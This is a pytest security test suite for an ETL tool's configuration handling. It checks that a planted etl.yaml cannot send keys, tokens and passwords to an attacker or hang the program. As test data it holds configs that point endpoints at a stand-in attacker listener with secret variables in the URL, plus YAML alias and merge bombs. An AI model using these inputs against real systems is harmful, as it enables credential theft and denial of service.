"""What a hostile etl.yaml can achieve: take keys, tokens and passwords, or the machine's time and memory."""

from __future__ import annotations

import base64
import http.server
import json
import os
import pathlib
import socket
import threading
import time
from collections.abc import Iterator

import pytest
from bounded import bounded

KEY_SECRET = "c2VjcmV0LW9mLXRoZS1hcGkta2V5LW9mLWEtdGVzdA"
PASSWORD = "a-database-password-of-a-test"
AWS_SECRET = "an-aws-secret-access-key-of-a-test"


def token(issuer: str, purpose: str = "api_key") -> str:
    def part(value: object) -> str:
        return base64.urlsafe_b64encode(json.dumps(value).encode()).decode().rstrip("=")

    claims = {"iss": issuer, "pur": purpose, "iat": int(time.time()) - 60, "exp": int(time.time()) + 3600, "context": {"user": {"name": "user"}}}
    return f"{part({'alg': 'RS256'})}.{part(claims)}.{KEY_SECRET}"


class Listener:
    """A server that keeps everything it is sent. It answers any request with a token and an empty object."""

    def __init__(self, host: str) -> None:
        received = self.received = []

        class Handler(http.server.BaseHTTPRequestHandler):
            def handle_any(self) -> None:
                body = self.rfile.read(int(self.headers.get("Content-Length") or 0))
                received.append(f"{self.command} {self.path}\n{self.headers}\n{body.decode('utf-8', 'replace')}")
                answer = json.dumps({"access_token": token("http://127.0.0.1/user", "access")}).encode()
                self.send_response(200)
                self.send_header("Content-Type", "application/json")
                self.send_header("Content-Length", str(len(answer)))
                self.end_headers()
                self.wfile.write(answer)

            do_GET = do_POST = do_PUT = do_DELETE = do_HEAD = handle_any

            def log_message(self, *_: object) -> None:
                pass

        self._server = http.server.ThreadingHTTPServer((host, 0), Handler)
        self.url = f"http://{host}:{self._server.server_address[1]}"
        threading.Thread(target=self._server.serve_forever, daemon=True).start()

    def close(self) -> None:
        self._server.shutdown()
        self._server.server_close()

    def assert_got_no_secret(self) -> None:
        everything = "\n".join(self.received)
        for secret in (KEY_SECRET, PASSWORD, AWS_SECRET):
            assert secret not in everything, everything


@pytest.fixture
def attacker() -> Iterator[Listener]:
    listener = Listener("127.0.0.2")
    yield listener
    listener.close()
    listener.assert_got_no_secret()


@pytest.fixture
def own_commons() -> Iterator[Listener]:
    listener = Listener("127.0.0.1")
    yield listener
    listener.close()


@pytest.fixture
def user(etl, canary, own_commons, tmp_path):
    """A user whose API key was issued by `own_commons`, with secrets in the environment, in a study's folder."""
    for secret in (KEY_SECRET, PASSWORD, AWS_SECRET):
        canary.add(secret)
    home = tmp_path / "home"
    study = home / "studies/Evil"
    study.mkdir(parents=True)
    (home / "creds").mkdir()
    (home / "creds/credentials.json").write_text(json.dumps({"api_key": token(own_commons.url + "/user"), "key_id": "k"}))
    (study / "Patient.ndjson").write_text('{"resourceType": "Patient", "id": "p"}\n')
    etl.env |= {"HOME": str(home), "ACED_ETL_CREDS": str(home / "creds"), "PGPASSWORD": PASSWORD, "AWS_SECRET_ACCESS_KEY": AWS_SECRET,
                "AWS_ACCESS_KEY_ID": "AKIAEXAMPLE"}
    etl.cwd = home
    return etl


def write(folder: pathlib.Path, text: str) -> pathlib.Path:
    folder.mkdir(parents=True, exist_ok=True)
    (folder / "etl.yaml").write_text(text)
    return folder / "etl.yaml"


ASKS_THE_COMMONS = [("buckets", "ls"), ("projects", "ls", "--via", "sheepdog"), ("files", "ls", "--project", "a-b"), ("doctor",),
                    ("config", "init", "-")]


# --- which etl.yaml is taken -----------------------------------------------------------------------------------------


@pytest.mark.promise("A study cannot configure the program")
@pytest.mark.parametrize("args", ASKS_THE_COMMONS, ids=" ".join)
def test_the_etl_yaml_of_a_study_is_not_taken(user, attacker, own_commons, args):
    study = user.cwd / "studies/Evil"
    write(study, f"gen3: {{endpoint: '{attacker.url}'}}\ndictionary: '{attacker.url}/d?${{PGPASSWORD}}'\nsearch: {{url: '{attacker.url}'}}\n")
    ran = user(*args, cwd=study)
    assert ran.stderr.count("etl.yaml is not used: ") == 1, ran
    assert attacker.received == []
    if args[0] not in ("projects", "files"):
        assert own_commons.received, f"the user's own commons was to be asked\n{ran}"


@pytest.mark.parametrize("where", ["studies", "studies/Evil", "studies/Evil/deeper", "output", "output/Evil"])
def test_no_folder_of_data_configures_the_program(user, where):
    write(user.cwd / where, "threads: 1\n")
    shown = user("config", "show", "-o", "json", cwd=user.cwd / where)
    rows = {row["key"]: row["value"] for row in shown.json()}
    assert "not used" in shown.stderr and "holds data" in shown.stderr and rows["etl_yaml"] == ""


def test_a_folder_of_data_is_known_by_its_real_path(user):
    write(user.cwd / "studies/Evil", "threads: 1\n")
    (user.cwd / "work").symlink_to(user.cwd / "studies/Evil")
    assert "not used" in user("config", "show", cwd=user.cwd / "work").stderr


@pytest.mark.parametrize("how", ["flag", "environment", "mounted", "itself"])
def test_a_folder_of_data_counts_wherever_it_is_named(user, how):
    other = user.cwd / "elsewhere"
    itself = f"folder: {{studies: '{other}'}}\n" if how == "itself" else ""
    write(other / "X", itself + "threads: 1\n")
    args, env = ["config", "show"], {}
    if how == "flag":
        args += ["--studies-folder", str(other)]
    elif how == "environment":
        env["ACED_ETL_STUDIES"] = str(other)
    elif how == "mounted":
        write(user.cwd / "creds", f"folder: {{studies: '{other}'}}\nthreads: 2\n")
    ran = user(*args, "-o", "json", env=env, cwd=other / "X")
    assert "not used" in ran.stderr
    assert how != "mounted" or {row["key"]: row["value"] for row in ran.json()}["threads"] == "2"


def test_a_folder_that_was_pulled_does_not_configure_the_program(user, s3):
    """A pull to a folder that no setting names any more."""
    bucket = s3.new_bucket("hostile")
    s3.client().put_object(Bucket=bucket, Key="x/studies/Evil/etl.yaml", Body=b"threads: 1\n")
    there = user.cwd / "once"
    env = {**s3.env, "AWS_PROFILE": "etlbot", "AWS_ACCESS_KEY_ID": None, "AWS_SECRET_ACCESS_KEY": None}
    user("studies", "pull", "--source-bucket", bucket, "--source-path", "x", "--studies-folder", there, "--output-folder", there / "out",
         env=env).ok()
    ran = user("config", "show", cwd=there / "Evil")
    assert "not used: the working directory holds files that `studies pull` brought" in ran.stderr


@pytest.mark.parametrize("mode, group, why", [
    (0o666, "own", "other users may write to it"),
    (0o664, "other", "other users may write to it"),
    (0o664, "own", ""),  # a private group, as Debian makes them
    (0o644, "other", ""),
])
def test_an_etl_yaml_that_others_may_write_is_not_taken(user, mode, group, why):
    file = write(user.cwd / "work", "threads: 1\n")
    if os.geteuid() != 0:
        pytest.skip("NOT TESTED: only root can give files to groups")
    os.chown(file, 0, 0 if group == "own" else 4711)
    file.chmod(mode)
    ran = user("config", "show", "-o", "json", cwd=file.parent)
    assert ("not used" in ran.stderr) == bool(why) and why in ran.stderr, ran
    assert {row["key"]: row["origin"] for row in ran.json()}["threads"] == (f"{file}:1" if not why else "default: all cores")


@pytest.mark.skipif(os.geteuid() != 0, reason="only root can give files away")
def test_an_etl_yaml_of_another_user_is_not_taken(user):
    file = write(user.cwd / "work", "threads: 1\n")
    os.chown(file, 4711, 4711)
    assert "not used: it belongs to another user" in user("config", "show", cwd=file.parent).stderr


def test_who_names_the_file_means_it(user):
    study = user.cwd / "studies/Evil"
    file = write(study, "threads: 1\n")
    for args, env in ((["--etl-yaml", "etl.yaml"], {}), ([], {"ACED_ETL_YAML": str(file)})):
        ran = user("config", "show", "-o", "json", *args, env=env, cwd=study).ok()
        assert "not used" not in ran.stderr and {row["key"]: row["value"] for row in ran.json()}["threads"] == "1"


# --- where keys and tokens go ----------------------------------------------------------------------------------------


@pytest.mark.promise("The API key goes to its own commons")
@pytest.mark.parametrize("named", [True, False], ids=["named", "found"])
@pytest.mark.parametrize("args", ASKS_THE_COMMONS, ids=" ".join)
def test_no_etl_yaml_sends_the_api_key_elsewhere(user, attacker, args, named):
    file = write(user.cwd, f"gen3:\n  endpoint: {attacker.url}\n")
    ran = user(*args, env={"ACED_ETL_YAML": str(file)} if named else {})
    assert attacker.received == []
    said = ran.stdout + ran.stderr
    assert "must not send it to " + attacker.url in said, ran
    assert args[0] == "config" or "GEN3_ENDPOINT" in said, ran
    assert args[0] == "config" or ran.rc == 2, ran


@pytest.mark.parametrize("other", ["port", "scheme"])
def test_another_port_or_scheme_is_another_commons(user, own_commons, other):
    listener = Listener("127.0.0.1")
    address = listener.url if other == "port" else own_commons.url.replace("http:", "https:")
    write(user.cwd, f"gen3: {{endpoint: '{address}'}}\n")
    assert "must not send it to" in user("buckets", "ls").failed(2).stderr
    listener.close()
    assert listener.received == [] and own_commons.received == []


def test_an_access_token_goes_to_its_issuer_only(user, attacker, own_commons):
    write(user.cwd, f"gen3: {{endpoint: '{attacker.url}', access_token: '${{MY_TOKEN}}'}}\n")
    env = {"MY_TOKEN": token(own_commons.url + "/user", "access")}
    assert "the access token was issued by" in user("buckets", "ls", env=env).failed(2).stderr
    assert attacker.received == []
    write(user.cwd, f"gen3: {{endpoint: '{attacker.url}'}}\n")
    for opaque in (KEY_SECRET, token("", "access")):
        user("buckets", "ls", env={"ACCESS_TOKEN": opaque}).failed(2 if "." in opaque else 3)
        assert attacker.received == []
    # Without an endpoint of its own, the file may bring the token.
    write(user.cwd, "gen3: {access_token: '${MY_TOKEN}'}\n")
    user("buckets", "ls", env=env)
    assert any(KEY_SECRET in request for request in own_commons.received)


def test_the_environment_and_a_flag_may_name_another_address(user):
    """An address within the cluster, say. doctor says so."""
    other = Listener("127.0.0.3")
    user("buckets", "ls", "--endpoint", other.url)
    assert any(KEY_SECRET in request for request in other.received)
    other.received.clear()
    ran = user("doctor", "-o", "json", env={"GEN3_ENDPOINT": other.url})
    row = next(row for row in ran.json() if row["check"] == "endpoint")
    assert row["state"] == "warning" and other.url in row["found"] and "environment GEN3_ENDPOINT" in row["found"]
    other.close()


def test_plain_http_is_for_loopback_only(user, own_commons):
    """The address is one for documentation (RFC 5737): nothing is ever sent there."""
    refused = user("buckets", "ls", env={"GEN3_ENDPOINT": "http://192.0.2.1"}).failed(2)
    assert "unencrypted" in refused.stderr and "ACED_ETL_ALLOW_HTTP" in refused.stderr
    (user.cwd / "creds/credentials.json").write_text(json.dumps({"api_key": token("http://commons.example.org/user"), "key_id": "k"}))
    assert "unencrypted" in user("buckets", "ls").failed(2).stderr
    # With leave it is tried: a name that is not resolved is an outage, no refusal of ours.
    (user.cwd / "creds/credentials.json").write_text(json.dumps({"api_key": token("http://commons.invalid/user"), "key_id": "k"}))
    file = write(user.cwd / "named", "gen3: {allow_http: yes}\n")
    for env in ({"ACED_ETL_ALLOW_HTTP": "yes"}, {"ACED_ETL_YAML": str(file)}):
        assert "unencrypted" not in user("buckets", "ls", env={**env, "http_proxy": own_commons.url}).stderr
    found = user("buckets", "ls", cwd=file.parent).failed(2)
    assert "may be set only in an etl.yaml that is named" in found.stderr and "etl.yaml:1" in found.stderr


# --- passwords and other secrets of the environment ------------------------------------------------------------------


@pytest.mark.parametrize("setting", ["dictionary: '{}/${{{}}}'", "gen3: {{endpoint: '{}/${{{}}}'}}", "search: {{url: '{}/${{{}:-x}}'}}",
                                     "source: {{bucket: b, path: '{}${{{}}}'}}", "program: '{}${{{}}}'", "temp_dir: '{}${{{}}}'"])
@pytest.mark.parametrize("variable", ["AWS_SECRET_ACCESS_KEY", "PGPASSWORD", "ACCESS_TOKEN", "GEN3_API_KEY", "github_token", "DB_PASS"])
def test_secret_variables_are_not_expanded_into_other_settings(user, attacker, setting, variable):
    file = write(user.cwd / "named", setting.format(attacker.url, variable) + "\n")
    for env in ({}, {"ACED_ETL_YAML": str(file)}):
        ran = user("doctor", env={**env, variable: PASSWORD}, cwd=file.parent).failed(2)
        assert f"${{{variable}}} may hold a secret" in ran.stderr and "etl.yaml:1" in ran.stderr
    assert attacker.received == []


def test_an_address_with_a_password_is_a_secret_too(user, attacker):
    write(user.cwd, "dictionary: ${BASE}/d.json\n")
    ran = user("doctor", env={"BASE": f"http://user:{PASSWORD}@127.0.0.2:1"}).failed(2)
    assert "${BASE} may hold a secret" in ran.stderr


def test_harmless_variables_are_expanded(user):
    write(user.cwd, "program: ${PROGRAM}\nsource: {profile: '${AWS_PROFILE}', bucket: '${BUCKET:-b}'}\ntemp_dir: ${PWD}\n")
    rows = user("config", "show", "-o", "json", env={"PROGRAM": "aced", "AWS_PROFILE": "p", "PWD": "/tmp"}).json()
    shown = {row["key"]: row["value"] for row in rows}
    assert (shown["program"], shown["source.bucket"], shown["temp_dir"]) == ("aced", "b", "/tmp")


def test_the_database_password_does_not_follow_a_found_file(user):
    """A server that asks for a password in the clear is one that a hostile file would name."""
    server = socket.create_server(("127.0.0.2", 0))
    server.settimeout(0.2)
    port = server.getsockname()[1]
    write(user.cwd, f"database: {{host: 127.0.0.2, port: {port}, name: d}}\n")
    ran = user("graph", "counts").failed(2)
    assert "must not decide where the database password is sent" in ran.stderr and "etl.yaml:1" in ran.stderr
    write(user.cwd, f"database: {{port: {port}}}\n")
    user("graph", "counts", env={"PGHOST": "127.0.0.2"}).failed(2)
    with pytest.raises(TimeoutError):
        server.accept()
    server.close()


@pytest.mark.promise("No secret is written in etl.yaml")
@pytest.mark.parametrize("text, key, line", [
    (f"threads: 1\ndatabase:\n  password: {PASSWORD}\n", "database.password", 3),
    (f"gen3: {{access_token: {PASSWORD}}}\n", "gen3.access_token", 1),
    ("database: {password: 'x${PGPASSWORD}'}\n", "database.password", 1),
    (f"database: {{password: '${{NOPE:-{PASSWORD}}}'}}\n", "database.password", 1),
    (f"search: {{url: 'https://elastic:{PASSWORD}@search.example.org'}}\n", "search.url", 1),
    (f"dictionary: 'https://user:{PASSWORD}@commons.example.org/d.json'\n", "dictionary", 1),
])
def test_secrets_are_refused_in_etl_yaml(user, text, key, line):
    file = write(user.cwd / "named", text)
    for args in (["config", "show"], ["graph", "counts"], ["run", "--all"]):
        ran = user("--etl-yaml", file, *args).failed(2)
        assert f"`{key}`" in ran.stderr and f"etl.yaml:{line}" in ran.stderr and "in the environment" in ran.stderr


def test_a_secret_may_come_from_any_variable(user):
    file = write(user.cwd / "named", "database: {host: h, password: '${OTHER_PASSWORD}'}\ngen3: {access_token: '${NONE:-}'}\n")
    rows = user("--etl-yaml", file, "config", "show", "-o", "json", env={"OTHER_PASSWORD": PASSWORD, "PGPASSWORD": None}).json()
    shown = {row["key"]: row for row in rows}
    assert shown["database.password"]["value"] == "***" and shown["database.password"]["origin"].endswith("etl.yaml:1")
    assert shown["gen3.access_token"]["origin"] == "not set"


# --- time and memory -------------------------------------------------------------------------------------------------

BOMB = "a: &a [x, x, x, x, x, x, x, x, x, x]\n" + "".join(
    f"{chr(98 + i)}: &{chr(98 + i)} [{', '.join(['*' + chr(97 + i)] * 10)}]\n" for i in range(12))

HOSTILE_YAML = {
    "comma": ",",
    "flow": "[" * 1_000_000,
    "maps": "{a: " * 200_000,
    "open keys": "? " * 400_000,
    "open lists": "- " * 400_000,
    "tag": "!2",
    "tags": "!<!a" * 200_000,
    "directives": "%TAG !a{0}! tag:x\n" * 40_000,
    "anchors": "&a " * 300_000,
    "alias bomb": BOMB,
    "merge bomb": "a: &a {k1: 1, k2: 2}\n" + "".join(f"m{i}: &m{i} {{<<: [{', '.join(['*a'] * 1000)}]}}\n" for i in range(800)),
    "alias of itself": "a: &a [*a]",
    "documents": "--- a\n" * 100_000,
    "one long line": "k: " + "x" * 1_000_000,
    "quotes": "'" * 999_999,
    "many keys": "".join(f"k{i}: 1\n" for i in range(90_000)),
    "long key": "a" * 900_000 + ": b",
    "comments": "#\n" * 500_000,
    "too large": "# x\n" * 1_000_000,
    "control characters": "a: \x01",
    "not UTF-8": "a: \udcff",
}


def hostile(name: str) -> bytes:
    text = HOSTILE_YAML[name]
    if name == "directives":
        text = "".join(f"%TAG !a{i}! tag:x\n" for i in range(40_000)) + "---\na: b\n"
    return text.encode("utf-8", "surrogateescape")


@pytest.mark.promise("Every file has a bound")
@pytest.mark.parametrize("name", HOSTILE_YAML)
def test_no_yaml_takes_long(etl, name):
    """As etl.yaml, user.yaml, fence-config.yaml and configuration of the simplifier."""
    file = etl.cwd / "hostile.yaml"
    file.write_bytes(hostile(name))
    (etl.cwd / "s.ndjson").write_text('{"resourceType": "Patient", "id": "p"}\n')
    harmless = name == "comments"
    ran = bounded(etl, "--etl-yaml", file, "config", "show", "-q")
    assert ran.rc == (0 if harmless else 2) and (harmless or "hostile.yaml" in ran.stderr), ran
    ran = bounded(etl, "projects", "init", "--all", "--user-yaml", file, "--dry-run", "--via", "database")
    assert ran.rc == 2 and "hostile.yaml" in ran.stderr, ran
    assert bounded(etl, "config", "init", "-", "--fence-config", file).rc in (0, 2)
    assert bounded(etl, "validate", "--config", file, "s.ndjson").rc in (0, 2)


# --- the readiness probe ---------------------------------------------------------------------------------------------


@pytest.mark.parametrize("text, what", [
    ("limits: {file_jobs: many}", "limits.file_jobs"),
    ("limits: {max_resource_mib: 2000000}", "limits.max_resource_mib"),
    ("limits: {bandwidth: 1e+07}", "limits.bandwidth"),
    ("limits: {tries: 0}", "limits.tries"),
    ("threads: none", "threads"),
    ("graph: {dangling: ignore}", "graph.dangling"),
    ("graph: {prune: maybe}", "graph.prune"),
    ("source: {delete: 1}", "source.delete"),
    ("destinations: {files: perhaps}", "destinations.files"),
    ("database: {host: h, port: 70000}", "database.port"),
    ("database: {host: h, port: x}", "database.port"),
    ("program: demo\nstudies: [{name: A, skip: nothing}]", "which is not a step"),
    ("simplify_config: nowhere.yaml", "nowhere.yaml"),
    ("dictionary: nowhere.json", "nowhere.json"),
    ("dictionary: ftp://x/y", "dictionary"),
    ("gen3: {api_key: nowhere.json}", "nowhere.json"),
    ("source: {bucket: b, profile: nobody}", "nobody"),
])
def test_config_show_refuses_what_a_run_refuses(etl, text, what):
    """It is the chart's readiness probe."""
    etl.env["HOME"] = str(etl.cwd)
    (etl.cwd / "etl.yaml").write_text(text + "\n")
    ran = etl("config", "show", "-q").failed(2)
    assert what in ran.stderr


def test_config_show_takes_what_a_run_takes(etl):
    for text in ("", "program: demo\nstudies: [{name: A, skip: files}]\nlimits: {bandwidth: 10MB, file_jobs: 2}\ngraph: {dangling: skip}\n"):
        (etl.cwd / "etl.yaml").write_text(text)
        etl("config", "show", "-q").ok()
